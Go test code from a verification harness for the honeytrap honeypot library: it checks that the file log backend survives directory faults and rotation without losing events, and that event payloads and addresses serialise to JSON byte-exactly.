			maxSize := int64(r.PickI([]int{1024, 4096, 1 << 20}))
			nev := r.PickI([]int{1, 2, 10, 100, 1000, 5000})
			writers := r.PickI([]int{1, 4, 32})
			big := r.Chance(1, 6)
			fault := ""
			if r.Chance(1, 6) {
				fault = r.PickS([]string{"missing-dir", "readonly-dir", "dir-removed-later"})
			}
			if i%16 == 5 {
				fault = "dir-removed-later"
			}
			if fault == "dir-removed-later" {
				// the destination works at first; after three events have been flushed the directory that holds the
				// log file goes away and stays away (a volume unmounted, a log directory cleaned up)
				writers = 1
				if nev < 8 {
					nev = 8
				}
				if nev > 100 {
					nev = 100
				}
			}
			// events that cannot be serialised (a NaN value) are sent in between: the channel may drop them, the
			// events around them it has accepted like any other
			poison := r.Chance(1, 3)
			trickle := fault == "" && i%16 == 7
			if trickle {
				// a steady trickle: one event every 250 ms for five seconds. What was sent two flush intervals ago
				// must be on disk while the events keep coming
				writers, nev, big, poison = 1, 20, false, false
			}
			desc := fmt.Sprintf("maxsize=%d events=%d writers=%d big=%v fault=%s unserialisable-events-in-between=%v", maxSize, nev, writers, big, fault, poison)
			switch fault {
			case "missing-dir":
				path = filepath.Join(dir, "no-such-dir", "events.log")
			case "dir-removed-later":
				os.MkdirAll(filepath.Join(dir, "logs"), 0755)
				path = filepath.Join(dir, "logs", "events.log")
			case "readonly-dir":
				ro := filepath.Join(dir, "ro")
				os.MkdirAll(ro, 0555)
				path = filepath.Join(ro, "events.log")
				if os.Geteuid() == 0 {
					// root ignores directory modes: make the path itself unusable instead
					os.MkdirAll(path, 0755)
				}
			}
			ch, err := fn(func(c pushers.Channel) error {
				fb := c.(*fschannel.FileBackend)
				fb.File = path
				fb.MaxSize = maxSize
				fb.Mode = 0600
				return nil
			})
			if err != nil {
				bad("construct", err.Error(), desc)
				return
			}
			var swg sync.WaitGroup
			stuck := int32(0)
			var smu sync.Mutex
			for wi := 0; wi < writers; wi++ {
				swg.Add(1)
				go func(wi int) {
					defer swg.Done()
					for s := wi; s < nev; s += writers {
						if trickle {
							time.Sleep(250 * time.Millisecond)
							if s == 12 {
								rb := readAll(path, maxSize)
								for early := 0; early < 4; early++ {
									if rb.Stamps[early] == 0 {
										bad("not-flushed-while-events-keep-coming", fmt.Sprintf("event %d was sent more than two seconds ago and is on no file; one event has been sent every 250 ms since (files on disk: %d)", early, rb.Files), desc)
										break
									}
								}
							}
						}
						if fault == "dir-removed-later" && s == 3 {
							time.Sleep(1500 * time.Millisecond)
							os.RemoveAll(filepath.Join(dir, "logs"))
						}
						size := r0size(b.Seed, p.First*100000+i, s, big)
						done := make(chan struct{})
						go func() {
							ch.Send(event.New(event.Custom("stamp", s), event.Custom("pad", strings.Repeat("x", size))))
							if poison && s%5 == 3 {
								ch.Send(event.New(event.Custom("unserialisable", math.NaN())))
							}
							close(done)
						}()
						select {
						case <-done:
						case <-time.After(15 * time.Second):
							smu.Lock()
							stuck++
							smu.Unlock()
							return
						}
					}
				}(wi)
			}
			swg.Wait()
			if trickle {
				// the channel is closed right after the last event: what it has accepted is still written
				if c, ok := ch.(interface{ Close() }); ok {
					c.Close()
				}
			}
			mu.Lock()
			ob.Backends++
			ob.Events += nev
			if ob.Sample == "" {
				ob.Sample = desc
			}
			mu.Unlock()
			if stuck > 0 {
				dump := lab.GoroutineDump()
				alive := strings.Contains(dump, "fschannel.(*FileBackend).writeLoop")
				bad("send-blocks-forever|"+faultOr(fault, "no-fault"), fmt.Sprintf("%d writer(s) blocked in Send for more than 15 s; a writeLoop goroutine is alive somewhere in the process: %v", stuck, alive), desc)
				return
			}
			if fault != "" {
				return // nothing is promised to reach an unwritable destination
			}
			// the writer flushes one second after the last event; on a loaded machine that second can be a long
			// one. Read back after 2.5 s, and again until every stamp is there or the files have not changed for
			// two seconds (at most 30 s): "lost" is decided on files that have come to rest
			time.Sleep(2500 * time.Millisecond)
			rb := readAll(path, maxSize)
			sig := func() string {
				fs, _ := filepath.Glob(path + "*")
				var sb strings.Builder
				for _, f := range fs {
					if st, err := os.Stat(f); err == nil {
						fmt.Fprintf(&sb, "%s:%d;", f, st.Size())
					}
				}
				return sb.String()
			}
			last, stable := sig(), 0
			for waited := 0; waited < 55 && stable < 4; waited++ {
				missing := false
				for s := 0; s < nev; s++ {
					if rb.Stamps[s] == 0 {
						missing = true
						break
					}
				}
				if !missing {
					break
				}
				time.Sleep(500 * time.Millisecond)
				if cur := sig(); cur == last {
					stable++
				} else {
					last, stable = cur, 0
				}
				rb = readAll(path, maxSize)
			}
			if len(rb.Stamps) > 0 {
				mu.Lock()
				ob.WithData++
				mu.Unlock()
			}
			if len(rb.BadLines) > 0 {
				bad("corrupt-line", rb.BadLines[0], desc)
			}
			lost, dup := 0, 0
			firstLost := -1
			for s := 0; s < nev; s++ {
				switch n := rb.Stamps[s]; {
				case n == 0:
					lost++
					if firstLost < 0 {
						firstLost = s
					}
				case n > 1:
					dup++
				}
			}
			if lost > 0 {
				bad("lost-event", fmt.Sprintf("%d of %d events are on no file after the last Send (files at rest for 2 s) (first: stamp %d; %d files on disk)", lost, nev, firstLost, rb.Files), desc)
			}
			if dup > 0 {
				bad("duplicated-event", fmt.Sprintf("%d events appear more than once", dup), desc)
			}
			if len(rb.Oversize) > 0 {
				bad("oversize-file", rb.Oversize[0], desc)
			}
		}(i)
	}
	wg.Wait()
	o.EmitX("backend", ob)
}

func faultOr(f, d string) string {
	if f == "" {
		return d
	}
	return f
}

func r0size(seed int64, be, s int, big bool) int {
	r := core.NewRng(seed, "C07/size", be*7919+s)
	if big && r.Chance(1, 50) {
		return r.PickI([]int{100000, 600 * 1024})
	}
	return r.PickI([]int{0, 1, 10, 100, 400, 900, 1000, 1100, 3000})
}

func (prop) Child(b core.Batch, o *core.Obs) {
	var p params
	b.P(&p)
	o.Begin(0)
	switch p.Mode {
	case "seq":
		childSeq(p, o)
	case "seeded":
		childSeeded(b, p, o)
	case "backend":
		childBackend(b, p, o)
	}
	o.End(0)
}

func (prop) Judge(b core.Batch, recs []core.Rec, exits []core.Exit) []core.Result {
	var out []core.Result
	emit := func(layer string, classes map[string]int, ex map[string]problem) {
		var cs []string
		for c := range classes {
			cs = append(cs, c)
		}
		sort.Strings(cs)
		for _, c := range cs {
			e := ex[c]
			out = append(out, core.Result{K: 0, Verdict: core.Violated, Sig: "C07|" + layer + "|" + c, What: fmt.Sprintf("%s [%s] (%d cases in %s)", e.Desc, e.Seq, classes[c], b.Name), Witness: e})
		}
	}
	for _, r := range recs {
		switch r.T {
		case "seq":
			var ob seqObs
			if r.XInto(&ob) != nil {
				continue
			}
			res := core.Result{K: 0, Verdict: core.Held, Witness: ob}
			if ob.Rotating > 0 {
				res.Key = b.Name
				res.Sample = map[string]interface{}{"mode": b.Name, "sequences": ob.Sequences, "sequences_with_rotation": ob.Rotating, "max_writes": ob.MaxLen, "example": ob.Sample}
			}
			out = append(out, res)
			emit("rotate", ob.Classes, ob.Examples)
		case "backend":
			var ob backendObs
			if r.XInto(&ob) != nil {
				continue
			}
			res := core.Result{K: 0, Verdict: core.Held, Witness: ob}
			if ob.WithData > 0 {
				res.Key = b.Name
				res.Sample = map[string]interface{}{"mode": b.Name, "backends": ob.Backends, "backends_with_lines_on_disk": ob.WithData, "events_sent": ob.Events, "example": ob.Sample}
			}
			out = append(out, res)
			emit("backend", ob.Classes, ob.Examples)
		}
	}
	for _, e := range exits {
		if e.Died() {
			out = append(out, core.Result{K: 0, Verdict: core.Inconclusive, What: fmt.Sprintf("child died or timed out (%s %s) in %s", e.Class, e.Frame, b.Name)})
		}
	}
	return out
}

func (prop) Summarize(all []core.Result, nrec int) map[string]interface{} {
	seqs, rot, be, ev := 0, 0, 0, 0
	for _, r := range all {
		switch w := r.Witness.(type) {
		case seqObs:
			seqs += w.Sequences
			rot += w.Rotating
		case backendObs:
			be += w.Backends
			ev += w.Events
		}
	}
	return map[string]interface{}{"write_sequences": seqs, "sequences_with_rotation": rot, "backends": be, "events_sent_through_backends": ev}
}

var _ = bufio.NewReader
