// Package c05: recorded payloads are byte-exact and every emitted event
// serialises. Read-back monitors on the real event constructors (exhaustive
// over all 1- and 2-byte payloads), on the real file channel, and on every
// event the services emit under the C01 workload.
package c05

import (
	"bufio"
	"bytes"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"sync"
	"time"
	"unicode/utf8"

	"github.com/honeytrap/honeytrap/event"
	"github.com/honeytrap/honeytrap/pushers"
	fschannel "github.com/honeytrap/honeytrap/pushers/file"

	"verif/htlab/internal/core"
	"verif/htlab/internal/gen"
	"verif/htlab/internal/lab"
	"verif/htlab/internal/props/c01"
)

type prop struct{}

func init() { core.Register(prop{}) }

func (prop) ID() string    { return "C05" }
func (prop) Level() string { return "exploration" }
func (prop) Rule() string {
	return "constructor cases: event.Payload over all 256 one-byte and all 65,536 two-byte strings (exhaustive) and seeded strings up to 64 KiB (invalid UTF-8, NUL, control bytes), address options over TCP/UDP/other address kinds, seeded subsets/orders of the option constructors, MergeFrom/CopyFrom against a map model; read back through Range, ToMap, MarshalJSON and the real file channel's lines on disk. Service cases: every event captured while the C01 generators drive each service through the real dispatcher is re-marshalled and checked (JSON object holds every key, payload/payload-hex/payload-length consistent, addresses belong to a connection of the run). Non-trivial = a case that produced >=1 event with >=1 checked field; distinct by case input / event content hash. Events are also written to after their first serialisation (further options and a token through event.Apply) and serialised again: every key of the model must be in the JSON. Connection options (event.WithConn): 0..8 base options and an address on a connection, a server name added, 1..3 connections derived from it with a key of their own each; every key recorded along a chain must be in the events built from its Options(). The file-channel batch sends its events once from one goroutine and once more from 8 goroutines at the same time (line lengths 60..4000 bytes mixed). Keys of service events are compared in the form a JSON document can carry (one U+FFFD per byte that is not valid UTF-8). The file-channel batch rotates its log (1 MiB) and ends with a burst of 40 events with 32-64 KiB payloads; lines are collected from every file."
}
func (prop) Assumptions() []string {
	return []string{"JSON is required to contain every key; lossy UTF-8 replacement inside the JSON 'payload' string is allowed (payload-hex is the byte-exact field)", "an address of a kind other than TCP/UDP records nothing (nothing wrong may be recorded)"}
}

type params struct {
	Mode string `json:"mode"` // ctor | file | svc
	Svc  int    `json:"svc"`
	Part int    `json:"part"`
	N    int    `json:"n"`
}

func (prop) Plan(tier string, seed int64) []core.Batch {
	var plan []core.Batch
	seeded, svcN, fileN := 3000, 60, 3000
	if tier == "thorough" {
		seeded, svcN, fileN = 60000, 600, 40000
	}
	for part := 0; part < 4; part++ {
		p, _ := json.Marshal(params{Mode: "ctor", Part: part, N: seeded})
		plan = append(plan, core.Batch{Name: fmt.Sprintf("ctor/%d", part), N: 1, Params: p, Timeout: 900})
	}
	p, _ := json.Marshal(params{Mode: "file", N: fileN})
	plan = append(plan, core.Batch{Name: "file", N: 1, Params: p, Timeout: 900})
	for i := range gen.Services() {
		p, _ := json.Marshal(params{Mode: "svc", Svc: i, N: svcN})
		plan = append(plan, core.Batch{Name: "svc/" + gen.Services()[i].Type + "/" + gen.Services()[i].Net, N: 1, Params: p, Timeout: 900})
	}
	return plan
}

type ctorObs struct {
	Cases      int            `json:"cases"`
	Exhaustive string         `json:"exhaustive"`
	Mismatches []string       `json:"mismatches"`
	Classes    map[string]int `json:"classes"`
	Sample     string         `json:"sample"`
}

func (ob *ctorObs) bad(class, f string, a ...interface{}) {
	if ob.Classes == nil {
		ob.Classes = map[string]int{}
	}
	ob.Classes[class]++
	if len(ob.Mismatches) < 20 {
		ob.Mismatches = append(ob.Mismatches, class+": "+fmt.Sprintf(f, a...))
	}
}

func checkPayload(ob *ctorObs, data []byte) {
	ob.Cases++
	e := event.New(event.Payload(data))
	m := event.ToMap(e)
	hx, _ := m["payload-hex"].(string)
	dec, err := hex.DecodeString(hx)
	if err != nil || string(dec) != string(data) {
		ob.bad("payload-hex", "input %x: payload-hex %q does not decode to the input", clipb(data), clip(hx))
	}
	if n, ok := m["payload-length"].(int); !ok || n != len(data) {
		ob.bad("payload-length", "input of %d bytes: payload-length %v", len(data), m["payload-length"])
	}
	if s, ok := m["payload"].(string); !ok || s != string(data) {
		ob.bad("payload", "input %x: payload field differs", clipb(data))
	}
	var viaRange string
	e.Range(func(k, v interface{}) bool {
		if k == "payload-hex" {
			viaRange, _ = v.(string)
		}
		return true
	})
	if viaRange != hx {
		ob.bad("range", "Range and ToMap disagree on payload-hex")
	}
	jb, err := json.Marshal(e)
	if err != nil {
		ob.bad("json", "input %x: MarshalJSON failed: %v", clipb(data), err)
		return
	}
	var jm map[string]interface{}
	if err := json.Unmarshal(jb, &jm); err != nil {
		ob.bad("json", "input %x: JSON does not parse: %v", clipb(data), err)
		return
	}
	for k := range m {
		if _, ok := jm[k]; !ok {
			ob.bad("json-key", "input %x: JSON lacks key %q", clipb(data), k)
		}
	}
	if jm["payload-hex"] != hx {
		ob.bad("json-hex", "input %x: JSON payload-hex differs", clipb(data))
	}
	if f, ok := jm["payload-length"].(float64); !ok || int(f) != len(data) {
		ob.bad("json-length", "input of %d bytes: JSON payload-length %v", len(data), jm["payload-length"])
	}
}

func clipb(b []byte) []byte {
	if len(b) > 16 {
		return b[:16]
	}
	return b
}
func clip(s string) string {
	if len(s) > 40 {
		return s[:40]
	}
	return s
}

type otherAddr struct{ n, s string }

func (a otherAddr) Network() string { return a.n }
func (a otherAddr) String() string  { return a.s }

func checkAddrs(ob *ctorObs, r *core.Rng) {
	ips := []net.IP{net.IPv4(1, 2, 3, 4), net.IPv4(1, 2, 3, 4).To4(), net.ParseIP("::1"), net.ParseIP("2001:db8::5"), net.ParseIP("::ffff:9.8.7.6"), net.IPv4zero, net.IPv4bcast, nil, net.IP(r.Bytes(4)), net.IP(r.Bytes(16))}
	ports := []int{0, 1, 80, 65535, r.Intn(65536)}
	for _, ip := range ips {
		for _, port := range ports {
			for kind := 0; kind < 2; kind++ {
				for _, zone := range []string{"", "eth0"} {
					ob.Cases++
					var a net.Addr
					if kind == 0 {
						a = &net.TCPAddr{IP: ip, Port: port, Zone: zone}
					} else {
						a = &net.UDPAddr{IP: ip, Port: port, Zone: zone}
					}
					m := event.ToMap(event.New(event.SourceAddr(a), event.DestinationAddr(a)))
					for _, side := range []string{"source", "destination"} {
						if m[side+"-ip"] != ip.String() {
							ob.bad("addr-ip", "%s %v: %s-ip recorded as %v", a.Network(), a, side, m[side+"-ip"])
						}
						if m[side+"-port"] != port {
							ob.bad("addr-port", "%s %v: %s-port recorded as %v", a.Network(), a, side, m[side+"-port"])
						}
					}
				}
			}
		}
	}
	for _, a := range []net.Addr{&net.UnixAddr{Name: "/tmp/x", Net: "unix"}, otherAddr{"pipe", "pipe"}, &net.IPAddr{IP: net.IPv4(1, 1, 1, 1)}} {
		ob.Cases++
		m := event.ToMap(event.New(event.SourceAddr(a), event.DestinationAddr(a)))
		for k := range m {
			if k != "date" {
				ob.bad("addr-other", "address kind %T recorded key %s=%v", a, k, m[k])
			}
		}
	}
}

type optCase struct {
	key string
	val interface{}
	opt event.Option
}

func optPool(r *core.Rng) []optCase {
	s := func() string { return string(r.Bytes(r.Range(0, 12))) }
	ip := net.IP(r.Bytes(4))
	p16 := uint16(r.Intn(65536))
	a, b, c, d, e2, f, g, h := s(), s(), s(), s(), s(), s(), s(), s()
	return []optCase{
		{"category", a, event.Category(a)}, {"type", b, event.Type(b)}, {"sensor", c, event.Sensor(c)}, {"service", d, event.Service(d)},
		{"protocol", e2, event.Protocol(e2)}, {"token", f, event.Token(f)}, {"remote-addr", g, event.RemoteAddr(g)}, {"host-addr", h, event.HostAddr(h)},
		{"source-ip", ip.String(), event.SourceIP(ip)}, {"destination-ip", ip.String(), event.DestinationIP(ip)},
		{"source-port", p16, event.SourcePort(p16)}, {"destination-port", p16, event.DestinationPort(p16)},
		{"message", "m " + a, event.Message("m %s", a)}, {"x.custom", 42, event.Custom("x.custom", 42)}, {"category", "again" + b, event.Category("again" + b)},
	}
}

type nullConn struct{ net.Conn }

// checkConnOptions: what a listener or service records on a connection (event.WithConn) must be in the events
// built from that connection's options - also when several connections are derived from one tagged connection
// (streams over one transport) and whatever the number of options already recorded.
func checkConnOptions(ob *ctorObs, r *core.Rng) {
	ob.Cases++
	base := r.Range(0, 9)
	var opts []event.Option
	want := map[string]interface{}{}
	for i := 0; i < base; i++ {
		k := fmt.Sprintf("listener.tag-%d", i)
		opts = append(opts, event.Custom(k, i))
		want[k] = i
	}
	ip, port := net.IP(r.Bytes(4)), 1+r.Intn(65535)
	opts = append(opts, event.SourceAddr(&net.TCPAddr{IP: ip, Port: port}))
	want["source-ip"], want["source-port"] = ip.String(), port
	c0 := event.WithConn(nullConn{}, opts...)
	sn := "sni-" + r.Alnum(5)
	c1 := event.WithConn(c0, event.Custom("https.server-name", sn))
	want["https.server-name"] = sn
	nsib := r.Range(1, 3)
	var sibs []*event.Conn
	var ids []string
	for i := 0; i < nsib; i++ {
		id := fmt.Sprintf("stream-%d-%s", i, r.Alnum(4))
		ids = append(ids, id)
		sibs = append(sibs, event.WithConn(c1, event.Custom(fmt.Sprintf("stream-%d.id", i), id)))
	}
	for i, sc := range sibs {
		m := event.ToMap(event.New(sc.Options(), event.Category("conn-options")))
		for k, v := range want {
			if fmt.Sprint(m[k]) != fmt.Sprint(v) {
				ob.bad("conn-options", "connection %d of %d derived from one tagged connection (%d base options): key %q = %v in its events, %v was recorded on the connection", i, nsib, base, k, m[k], v)
			}
		}
		if k := fmt.Sprintf("stream-%d.id", i); m[k] != ids[i] {
			ob.bad("conn-options", "connection %d of %d derived from one tagged connection (%d base options): its own key %q = %v in its events, recorded %q", i, nsib, base, k, m[k], ids[i])
		}
	}
}

func checkOptions(ob *ctorObs, r *core.Rng) {
	ob.Cases++
	pool := optPool(r)
	n := r.Range(0, len(pool))
	perm := r.Perm(len(pool))[:n]
	model := map[string]interface{}{}
	var opts []event.Option
	for _, i := range perm {
		opts = append(opts, pool[i].opt)
		model[pool[i].key] = pool[i].val
	}
	if r.Bool() && len(opts) > 1 { // nested NewWith
		opts = []event.Option{event.NewWith(opts[:len(opts)/2]...), event.NewWith(opts[len(opts)/2:]...)}
	}
	e := event.New(opts...)
	// merge / copy
	mk := func() map[string]interface{} {
		m := map[string]interface{}{}
		for j := r.Range(0, 5); j > 0; j-- {
			k := r.PickS([]string{"category", "type", "x.custom", "new-" + r.Alnum(3), "source-port", "date"})
			m[k] = "v" + r.Alnum(4)
		}
		return m
	}
	for j := r.Range(0, 3); j > 0; j-- {
		data := mk()
		if r.Bool() {
			event.Apply(e, event.MergeFrom(data))
			for k, v := range data {
				if _, has := model[k]; !has && k != "date" {
					model[k] = v
				}
			}
		} else {
			event.Apply(e, event.CopyFrom(data))
			for k, v := range data {
				model[k] = v
			}
		}
	}
	got := event.ToMap(e)
	if _, hasDate := model["date"]; !hasDate {
		delete(got, "date")
	}
	for k, v := range model {
		if got[k] != v {
			ob.bad("option-model", "key %q = %v, model %v", k, got[k], v)
		}
	}
	for k := range got {
		if _, ok := model[k]; !ok {
			ob.bad("option-extra", "unexpected key %q", k)
		}
	}
	jb, err := json.Marshal(e)
	if err != nil {
		ob.bad("json", "option combination: MarshalJSON failed: %v", err)
		return
	}
	var jm map[string]interface{}
	json.Unmarshal(jb, &jm)
	for k := range got {
		if _, ok := jm[k]; !ok {
			ob.bad("json-key", "option combination: JSON lacks key %q", k)
		}
	}
	// an event keeps being written to after it has been serialised once: the bus hands one event to several
	// channels, and a later channel's wrapper stores its token before serialising the event again
	for round := 0; round < 2; round++ {
		late := optPool(r)
		for _, i := range r.Perm(len(late))[:r.Range(1, 3)] {
			event.Apply(e, late[i].opt)
			model[late[i].key] = late[i].val
		}
		tok := "tok-" + r.Alnum(6)
		event.Apply(e, event.Token(tok))
		model["token"] = tok
		jb, err := json.Marshal(e)
		if err != nil {
			ob.bad("json", "second serialisation failed: %v", err)
			return
		}
		var jm map[string]interface{}
		json.Unmarshal(jb, &jm)
		for k, v := range model {
			jv, ok := jm[k]
			if !ok {
				ob.bad("json-key-after-reserialise", "key %q stored after the event had been serialised once is missing from its JSON", k)
				continue
			}
			if sv, isStr := v.(string); isStr && utf8.ValidString(sv) && k != "date" {
				if js, _ := jv.(string); js != sv {
					ob.bad("json-value-after-reserialise", "key %q: JSON has %q, the event holds %q (stored after an earlier serialisation)", k, js, sv)
				}
			}
		}
	}
}

func childCtor(b core.Batch, p params, o *core.Obs) {
	ob := ctorObs{}
	switch p.Part {
	case 0:
		ob.Exhaustive = "all 256 one-byte payloads and two-byte payloads 0x0000..0x3fff"
		checkPayload(&ob, nil)
		checkPayload(&ob, []byte{})
		for i := 0; i < 256; i++ {
			checkPayload(&ob, []byte{byte(i)})
		}
		for i := 0; i < 0x4000; i++ {
			checkPayload(&ob, []byte{byte(i >> 8), byte(i)})
		}
	case 1, 2, 3:
		ob.Exhaustive = fmt.Sprintf("two-byte payloads %#04x..%#04x", p.Part*0x4000, (p.Part+1)*0x4000-1)
		for i := p.Part * 0x4000; i < (p.Part+1)*0x4000; i++ {
			checkPayload(&ob, []byte{byte(i >> 8), byte(i)})
		}
	}
	for i := 0; i < p.N/4; i++ {
		r := core.NewRng(b.Seed, "C05/ctor", p.Part*1000000+i)
		var data []byte
		switch r.Intn(5) {
		case 0:
			data = r.Bytes(r.Range(3, 64))
		case 1:
			data = r.Bytes(r.PickI([]int{255, 256, 1023, 1024, 4096, 65535, 65536}))
		case 2:
			data = []byte(strings.Repeat(string([]byte{0xff, 0xfe, 0x00, 0xc3, 0x28, 0xe2, 0x82}), r.Range(1, 40)))
		case 3:
			data = gen.Raw(r)
		case 4:
			data = append([]byte("héllo\x00wörld\r\n\t\x7f"), r.Bytes(r.Intn(20))...)
		}
		checkPayload(&ob, data)
		checkOptions(&ob, r)
		checkConnOptions(&ob, r)
		if i%50 == 0 {
			checkAddrs(&ob, r)
		}
		if i == 0 {
			ob.Sample = hex.EncodeToString(clipb(data))
		}
	}
	o.EmitX("ctor", ob)
}

// childFile sends stamped events with hostile payloads through the real file channel and reads the lines back.
func childFile(b core.Batch, p params, o *core.Obs) {
	ob := ctorObs{}
	fn, _ := pushers.Get("file")
	path := filepath.Join(lab.WorkDir(), "events.log")
	ch, err := fn(func(c pushers.Channel) error {
		fb := c.(*fschannel.FileBackend)
		fb.File = path
		fb.MaxSize = 1 << 20 // the log rotates many times during the batch: lines are looked for in every file
		return nil
	})
	if err != nil {
		o.Emit(core.Rec{T: "starterr", S: err.Error()})
		return
	}
	want := map[int][]byte{}
	for i := 0; i < p.N; i++ {
		r := core.NewRng(b.Seed, "C05/file", i)
		var data []byte
		switch {
		case i < 256:
			data = []byte{byte(i)}
		case i < 512:
			data = []byte{0xff, byte(i)}
		default:
			data = gen.Raw(r)
			if len(data) > 4096 {
				data = data[:4096]
			}
		}
		want[i] = data
		ch.Send(event.New(event.Custom("stamp", i), event.Payload(data), event.SourceAddr(&net.TCPAddr{IP: net.IPv4(10, 9, byte(i>>8), byte(i)), Port: i % 65536})))
	}
	// connection handlers run in goroutines of their own and all send to the one channel: the same number of events
	// again, from 8 senders at once (stamps N..2N-1, payload sizes mixed so that lines of very different length meet)
	total := 2 * p.N
	for i := p.N; i < total; i++ {
		r := core.NewRng(b.Seed, "C05/file-conc", i)
		want[i] = r.Bytes(r.PickI([]int{0, 1, 7, 60, 300, 2000}))
	}
	var wg sync.WaitGroup
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			for i := p.N + g; i < total; i += 8 {
				ch.Send(event.New(event.Custom("stamp", i), event.Payload(want[i]), event.SourceAddr(&net.TCPAddr{IP: net.IPv4(10, 9, byte(i>>8), byte(i)), Port: i % 65536})))
			}
		}(g)
	}
	wg.Wait()
	// payloads of 32..64 KiB (lines of 100..200 KB) in one burst: larger than the writer's buffer and a good part
	// of the maximum file size each
	for i := total; i < total+40; i++ {
		r := core.NewRng(b.Seed, "C05/file-large", i)
		want[i] = r.Bytes(r.Range(32<<10, 64<<10))
		ch.Send(event.New(event.Custom("stamp", i), event.Payload(want[i]), event.SourceAddr(&net.TCPAddr{IP: net.IPv4(10, 9, byte(i>>8), byte(i)), Port: i % 65536})))
	}
	total += 40
	time.Sleep(2500 * time.Millisecond)
	files, _ := filepath.Glob(path + "*")
	if len(files) == 0 {
		ob.bad("file-missing", "log file not present after the flush interval")
		o.EmitX("ctor", ob)
		return
	}
	var all bytes.Buffer
	for _, fn := range files {
		fb, _ := os.ReadFile(fn)
		if len(fb) > 0 && fb[len(fb)-1] != '\n' {
			ob.bad("file-line", "%s does not end with a newline", filepath.Base(fn))
			fb = append(fb, '\n')
		}
		all.Write(fb)
	}
	sc := bufio.NewScanner(&all)
	sc.Buffer(make([]byte, 1<<20), 64<<20)
	seen := map[int]int{}
	for sc.Scan() {
		ob.Cases++
		var m map[string]interface{}
		if err := json.Unmarshal(sc.Bytes(), &m); err != nil {
			ob.bad("file-line", "unparseable line: %v", err)
			continue
		}
		st, ok := m["stamp"].(float64)
		if !ok {
			ob.bad("file-key", "line lacks stamp")
			continue
		}
		i := int(st)
		seen[i]++
		for _, k := range []string{"date", "payload", "payload-hex", "payload-length", "source-ip", "source-port"} {
			if _, ok := m[k]; !ok {
				ob.bad("file-key", "line for stamp %d lacks key %q", i, k)
			}
		}
		if hx, _ := m["payload-hex"].(string); hx != hex.EncodeToString(want[i]) {
			ob.bad("file-hex", "stamp %d: payload-hex on disk differs from the bytes sent", i)
		}
		if n, _ := m["payload-length"].(float64); int(n) != len(want[i]) {
			ob.bad("file-length", "stamp %d: payload-length on disk %v, sent %d", i, m["payload-length"], len(want[i]))
		}
		if ip, _ := m["source-ip"].(string); ip != net.IPv4(10, 9, byte(i>>8), byte(i)).String() {
			ob.bad("file-addr", "stamp %d: source-ip on disk %v", i, m["source-ip"])
		}
	}
	for i := 0; i < total; i++ {
		if seen[i] != 1 {
			ob.bad("file-count", "stamp %d appears %d times on disk", i, seen[i])
		}
	}
	ob.Exhaustive = "all 256 one-byte payloads through the file channel"
	o.EmitX("ctor", ob)
}

// jsonForm is the form in which a JSON document can carry a key at all: JSON strings are Unicode, so every byte
// that is not part of a valid UTF-8 sequence is written as U+FFFD (one per byte, as encoding/json does). A service
// that takes a key from client bytes (smtp header names) is judged on this form.
func jsonForm(k string) string {
	var sb strings.Builder
	for i := 0; i < len(k); {
		r, w := utf8.DecodeRuneInString(k[i:])
		if r == utf8.RuneError && w == 1 {
			sb.WriteRune(utf8.RuneError)
		} else {
			sb.WriteString(k[i : i+w])
		}
		i += w
	}
	return sb.String()
}

type evCheck struct {
	Cat     string `json:"cat"`
	Typ     string `json:"typ"`
	Keys    int    `json:"keys"`
	Problem string `json:"problem,omitempty"`
	Class   string `json:"class,omitempty"`
	Hash    string `json:"hash"`
}

type svcObs struct {
	Events   int               `json:"events"`
	Scen     int               `json:"scenarios"`
	Problems []evCheck         `json:"problems"`
	Classes  map[string]int    `json:"classes"`
	Cats     map[string]int    `json:"cats"`
	Distinct int               `json:"distinct"`
	Sample   map[string]string `json:"sample"`
}

func childSvc(b core.Batch, p params, o *core.Obs) {
	w, err := c01.StartWorkload(p.Svc)
	if err != nil {
		o.Emit(core.Rec{T: "starterr", S: err.Error()})
		return
	}
	ob := svcObs{Classes: map[string]int{}, Cats: map[string]int{}}
	addrs := map[string]bool{"203.0.113.250": true}
	seenHash := map[string]bool{}
	for k := 0; k < p.N; k++ {
		ev0 := lab.Events.Len()
		info := w.Run(b.Seed, 5000+k, k, false)
		ob.Scen++
		for _, a := range info.Addrs {
			addrs[a] = true
		}
		for _, c := range lab.Events.Since(ev0) {
			ob.Events++
			rec := c.Rec
			cat := lab.Str(rec, "category")
			ob.Cats[cat]++
			chk := func(class, f string, a ...interface{}) {
				ob.Classes[class]++
				if len(ob.Problems) < 20 {
					ob.Problems = append(ob.Problems, evCheck{Cat: cat, Typ: lab.Str(rec, "type"), Class: class, Problem: fmt.Sprintf(f, a...)})
				}
			}
			if rec.JSONErr != "" {
				chk("json-marshal|"+cat, "event of category %q does not serialise: %s", cat, rec.JSONErr)
			} else {
				js := map[string]bool{}
				for _, k := range rec.JSONKeys {
					js[k] = true
				}
				for k := range rec.KV {
					if !js[k] && !js[jsonForm(k)] {
						chk("json-key|"+cat, "JSON of a %q event lacks key %q", cat, k)
					}
				}
			}
			if hx, ok := rec.KV["payload-hex"]; ok {
				raw, _ := hex.DecodeString(hx.H) // the hex string itself
				dec, err := hex.DecodeString(string(raw))
				pl, _ := hex.DecodeString(rec.KV["payload"].H)
				if err != nil || string(dec) != string(pl) {
					chk("payload-hex|"+cat, "payload-hex of a %q event does not decode to its payload", cat)
				}
				if n, ok := lab.Int(rec, "payload-length"); !ok || int(n) != len(dec) {
					chk("payload-length|"+cat, "payload-length of a %q event is %d for %d bytes", cat, n, len(dec))
				}
			}
			if sip := lab.Str(rec, "source-ip"); sip != "" {
				sp, _ := lab.Int(rec, "source-port")
				if !addrs[fmt.Sprintf("%s:%d", sip, sp)] && !addrs[sip] {
					chk("source-addr|"+cat, "a %q event carries source %s:%d, which no connection of this run used", cat, sip, sp)
				}
			}
			if dip := lab.Str(rec, "destination-ip"); dip != "" && dip != "10.0.0.1" {
				chk("destination-addr|"+cat, "a %q event carries destination-ip %s, connections went to 10.0.0.1", cat, dip)
			}
			var ks []string
			for k := range rec.KV {
				ks = append(ks, k)
			}
			sort.Strings(ks)
			h := cat + "|" + lab.Str(rec, "type") + "|" + strings.Join(ks, ",")
			if !seenHash[h] {
				seenHash[h] = true
				if ob.Sample == nil {
					ob.Sample = map[string]string{"category": cat, "type": lab.Str(rec, "type"), "keys": strings.Join(ks, ",")}
				}
			}
		}
	}
	ob.Distinct = len(seenHash)
	o.EmitX("svc", ob)
}

